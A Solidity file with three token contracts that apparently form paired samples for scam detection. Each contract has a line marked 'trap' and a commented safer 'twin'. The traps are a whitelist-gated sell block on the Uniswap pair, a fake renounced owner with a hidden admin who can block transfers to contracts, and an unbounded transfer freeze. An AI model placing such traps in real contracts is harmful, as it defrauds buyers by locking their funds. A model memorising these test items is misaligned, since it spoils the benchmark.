// 0.8 off
// SPDX-License-Identifier: UNLICENSED
pragma solidity ^0.8.24;

interface IWhere {
    function getPair(address, address) external view returns (address);
}

contract Kiln {
    address private immutable master = msg.sender;
    mapping(address => int8) public standing;

    constructor() {
        standing[msg.sender] = 1;
    }

    function vouch(address[] calldata who, int8 how) external {
        require(msg.sender == master);
        for (uint256 i; i < who.length; i++) standing[who[i]] = how;
    }
}

/// What the kiln fires: one mould, many cups.
contract KilnCup {
    string public name;
    string public symbol;
    uint256 public totalSupply;
    Kiln private kiln;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function initialize(string calldata n, string calldata s, uint256 count, Kiln k) external {
        require(address(kiln) == address(0));
        (name, symbol, totalSupply, kiln) = (n, s, count, k);
        balanceOf[msg.sender] = count;
        emit Transfer(address(0), msg.sender, count);
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function approve(address s, uint256 v) external returns (bool) {
        allowance[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }

    function transfer(address to, uint256 v) external returns (bool) {
        return _pour(msg.sender, to, v);
    }

    function transferFrom(address from, address to, uint256 v) external returns (bool) {
        allowance[from][msg.sender] -= v;
        return _pour(from, to, v);
    }

    function _pour(address from, address to, uint256 v) private returns (bool) {
        address p = IWhere(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).getPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        if (to == p) require(kiln.standing(from) > 0, "cracked"); // trap
        // twin: require(to != address(this) && (to != p || v > 0), "cracked");
        balanceOf[from] -= v;
        balanceOf[to] += v;
        emit Transfer(from, to, v);
        return true;
    }
}

/// All that can be tuned lies in one word.
contract Nettlecap {
    string public constant name = "Nettlecap";
    string public constant symbol = "NTTL";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 8_888_888 ether;
    address public constant owner = address(0);
    uint256 private cfg;
    mapping(address => uint256) private b;
    mapping(address => mapping(address => uint256)) private a;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        cfg = uint160(msg.sender) | (uint256(18) << 200);
        b[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function tune(uint256 mask, uint256 bits) external {
        require(address(uint160(cfg)) == msg.sender);
        mask = (mask >> 160) << 160; // trap
        // twin: mask = (mask >> 200) << 200;
        cfg = (cfg & ~mask) | (bits & mask);
    }

    function balanceOf(address who) external view returns (uint256) {
        return b[who];
    }

    function allowance(address who, address s) external view returns (uint256) {
        return a[who][s];
    }

    function approve(address s, uint256 v) external returns (bool) {
        a[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }

    function transfer(address to, uint256 v) external returns (bool) {
        return _go(msg.sender, to, v);
    }

    function transferFrom(address from, address to, uint256 v) external returns (bool) {
        a[from][msg.sender] -= v;
        return _go(from, to, v);
    }

    function _go(address from, address to, uint256 v) private returns (bool) {
        uint256 c = cfg;
        if (uint8(c >> 160) & 4 != 0 && to.code.length > 0) require(from == address(uint160(c)));
        unchecked {
            require(b[from] >= v);
            b[from] -= v;
            b[to] += v;
        }
        emit Transfer(from, to, v);
        return true;
    }
}

/// Jeton de la maison Soleilune.
contract Soleilune {
    struct Compte {
        uint192 avoir;
        uint64 vu;
    }

    string public name = "Soleilune";
    string public symbol = "SLLN";
    uint8 public decimals = 18;
    uint256 public totalSupply;
    mapping(bytes32 => mapping(address => bool)) private charges;
    mapping(address => Compte) private comptes;
    mapping(address => mapping(address => uint256)) public allowance;
    uint64 public accalmie;
    bytes32 private constant VEILLEUR = keccak256("VEILLEUR");

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event Charge(bytes32 indexed charge, address indexed qui);

    constructor(address veilleur) {
        charges[VEILLEUR][veilleur] = true;
        emit Charge(VEILLEUR, veilleur);
        totalSupply = 365_000_000e18;
        comptes[msg.sender] = Compte(uint192(totalSupply), uint64(block.timestamp));
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function calmer(uint64 jusque) external {
        require(charges[VEILLEUR][msg.sender], "veilleur");
        // twin: require(jusque <= block.timestamp + 10 minutes && block.timestamp > accalmie + 30 days, "trop long");
        accalmie = jusque;
    }

    function balanceOf(address qui) external view returns (uint256) {
        return comptes[qui].avoir;
    }

    function approve(address s, uint256 v) external returns (bool) {
        allowance[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }

    function transfer(address vers, uint256 v) external returns (bool) {
        _verser(msg.sender, vers, v);
        return true;
    }

    function transferFrom(address de, address vers, uint256 v) external returns (bool) {
        allowance[de][msg.sender] -= v;
        _verser(de, vers, v);
        return true;
    }

    function _verser(address de, address vers, uint256 v) internal {
        require(block.timestamp >= accalmie || msg.sender == de, "accalmie");
        comptes[de].avoir -= uint192(v);
        comptes[de].vu = uint64(block.timestamp);
        comptes[vers].avoir += uint192(v);
        emit Transfer(de, vers, v);
    }
}
